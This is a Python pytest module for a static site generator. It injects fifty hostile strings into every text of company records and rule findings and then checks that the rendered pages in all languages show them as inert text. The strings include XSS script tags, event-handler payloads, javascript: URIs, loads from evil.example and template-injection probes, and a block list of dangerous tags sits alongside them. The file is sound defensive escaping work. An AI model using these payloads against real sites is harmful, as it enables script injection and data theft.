"""Fifty texts that would like to be run stand in every text of a company, in every language; they are shown, and none runs."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from itertools import cycle
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.sync_api import Browser

from duban.language import LANGUAGES
from duban.model import Figure, FigureInForce, Owner, Record, Result, Rule, Text
from duban.render import build
from tests import record_examples, results, site_books
from tests.browsers import tab
from tests.test_site import Reader, read

pytestmark = pytest.mark.whole

SCRIPTS: Final = (
    "<script>hacked()</script>", "</script><script>hacked()</script>", "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<script type=module>import 'https://evil.example/a.js'</script>", "<img src=x onerror=hacked()>",
    '"><img src=x onerror=hacked()>', "'><svg onload=hacked()>", "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>", "<math><mtext><img src=x onerror=hacked()></mtext></math>",
    "<iframe src='javascript:parent.hacked()'></iframe>", "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<object data='//evil.example/o'></object>", "<embed src='//evil.example/e'>", "<body onload=hacked()>",
    "<details open ontoggle=hacked()>x</details>", "<input autofocus onfocus=hacked()>", "<video><source onerror=hacked()></video>",
    "<style>@import '//evil.example/s.css';</style>", "<link rel=stylesheet href=//evil.example/l.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>go</button></form>", "<p style='background:url(//evil.example/b.png)'>x</p>",
    "</title><script>hacked()</script>", "</textarea><script>hacked()</script>", "--><script>hacked()</script><!--",
    "]]><script>hacked()</script>", "&lt;script&gt;hacked()&lt;/script&gt;", "&#60;img src=x onerror=hacked()&#62;",
)  # fmt: skip

SIGNS: Final = (
    "[x](javascript:hacked())", "[x](data:text/html,<script>hacked()</script>)", "![x](//evil.example/i.png)",
    '![x](x "onerror=hacked()")', "<javascript:hacked()>", "[x]: //evil.example", "`<script>hacked()</script>`",
    "**bold** _it_ ~~no~~", "| a | b | c |", "# heading { #evil onclick=hacked() }", "x { onclick=hacked() }",
    "!!! note <img src=x onerror=hacked()>", ":smile: [TOC] *[x]: y", "{{ 7 * 191 }}", "{% include 'front.md.j2' %}",
    "{{ config.__class__ }} {# gone #}", "${7*191} #{7*191} <%= 7*191 %>", 'https://evil.example/?a=b&c="d"',
    "javascript:hacked()//", "'; hacked(); //",
)  # fmt: skip

PAYLOADS: Final = SCRIPTS + SIGNS

FORBIDDEN: Final = frozenset({
    "iframe", "object", "embed", "math", "video", "base", "onload", "onerror", "onclick", "onbegin", "ontoggle", "onfocus",
})  # fmt: skip
"""Elements and attributes that no page of ours has."""

OUTSIDE: Final = frozenset({"script", "form", "meta", "link", "input", "img", "title"})
"""Elements that a page of ours has outside of its article only."""

WATCH: Final = "window.hacked = () => console.error('a text of a record was run')"


def worded(texts: Iterator[str]) -> Text:
    """A text of Duban's own, hostile in another way in each language."""
    return Text(en=next(texts), zh=next(texts))


def spoilt(value: Any, texts: Iterator[str]) -> Any:
    """The same with the next hostile text wherever a text for people stands: in both languages, or a sentence."""
    match value:
        case {"en": str(), "zh": str()}:
            return {"en": next(texts), "zh": next(texts)}
        case dict():
            return {key: spoilt(held, texts) for key, held in value.items()}
        case list():
            return [spoilt(held, texts) for held in value]
        case str() if " " in value:
            return next(texts)
        case _:
            return value


def company(texts: Iterator[str]) -> Iterator[Record]:
    """A record of every example that there is of a type; and for each two texts a warning, and a page of which they are the title."""
    for name in record_examples.EXAMPLES:
        data = spoilt(record_examples.record(name), texts)
        yield site_books.record(record_examples.kind(name), data.pop("id"), **data)
    for at, text in enumerate(PAYLOADS):
        words = {"en": text, "zh": PAYLOADS[at - 1]}
        yield site_books.record(
            "warning", f"warning-hostile-{at}", title=words, state=text, grade=text, department=text
        )
        if at % 2:
            kind = "department" if at % 4 == 1 else "person"
            yield site_books.record(kind, f"hostile-{at}", name=words, department=f"hostile-{at - 2}")


def rule(number: int, texts: Iterator[str]) -> Rule:
    """A provision whose every text is hostile."""
    return replace(
        results.RULE, id=f"PR-12-{number}a", article=f"Art. 12({number})", label=worded(texts), says=worded(texts),
        chapter=worded(texts), consequence=worded(texts), unchecked=worded(texts),
        figures={"within": Figure(op="<=", value=4, unit="hour", label=worded(texts))},
    )  # fmt: skip


def result(texts: Iterator[str]) -> Result:
    """Findings, duties, indicators and provisions, in which every text is hostile."""
    rules = tuple(rule(number, texts) for number in range(1, 8))
    findings = tuple(
        replace(
            results.finding("overdue", at), rule=rules[0].id, message=told(texts), remedy=told(texts), title=told(texts),
            facet=next(texts), measured=worded(texts), limit=worded(texts),
            owner=Owner(department=next(texts), person="hostile-1"),
        ) for at in range(10)
    )  # fmt: skip
    duties = tuple(
        replace(results.DUTY, key=f"{at:012x}", rule=rules[0].id, label=told(texts), title=told(texts), facet=next(texts), owner=Owner(person="hostile-1"))
        for at in range(10)
    )  # fmt: skip
    held = FigureInForce(value=4, op="<=", unit="hour", source="text", setting=None, since=None)
    return replace(
        results.result(results.hostile(), *findings, duties=duties, indicators=(replace(results.INDICATOR, rule=rules[0].id, label=told(texts)),)),
        rules=(*rules, results.RULE), figures={one.id: {"within": held} for one in rules},
    )  # fmt: skip


def told(texts: Iterator[str]) -> dict[str, str]:
    """A text of a finding, hostile in another way in each language."""
    return results.words(next(texts), next(texts))


@pytest.fixture(scope="module")
def html(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder, texts = tmp_path_factory.mktemp("hostile"), cycle(PAYLOADS)
    known = tuple(company(texts))
    names = {record.id for record in known}
    kept = tuple(record for record in site_books.RECORDS if record.id not in names)
    view = site_books.view(result(texts), *known, records=kept)
    return build(view, site_books.ROOT, folder).parent


def test_there_are_fifty() -> None:
    assert len({*PAYLOADS}) == 50


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_text_is_shown_as_it_was_written(html: Path, language: str) -> None:
    """No page of any language has an element or an attribute that a text would have been."""
    shown = ""
    for path in pages(html, language):
        whole, article = read(path), Reader()
        article.feed(path.read_text("utf-8").partition("<article")[2].partition("</article>")[0])
        assert whole.tags.isdisjoint(FORBIDDEN), path
        assert article.tags.isdisjoint(OUTSIDE), path
        assert "evil" not in whole.anchors, path
        shown += article.text
    assert [payload for payload in PAYLOADS if " ".join(payload.split()) not in " ".join(shown.split())] == []
    assert "1337" not in shown


def test_no_text_is_run(html: Path, browser: Browser) -> None:
    """Each page in one of the languages: nothing is asked of another host, no dialog opens, and no error is told."""
    with tab(browser, html) as watched:
        watched.page.add_init_script(WATCH)
        for number, path in enumerate(pages(html, "en")):
            language = LANGUAGES[number % len(LANGUAGES)]
            watched.page.goto((html / language / path.relative_to(html / "en")).as_uri())
            assert watched.wrong == [], (language, path)


def pages(html: Path, language: str) -> list[Path]:
    """Every page of a language that its navigation or another page leads to."""
    return [path for path in sorted((html / language).rglob("*.html")) if path.name != "404.html"]
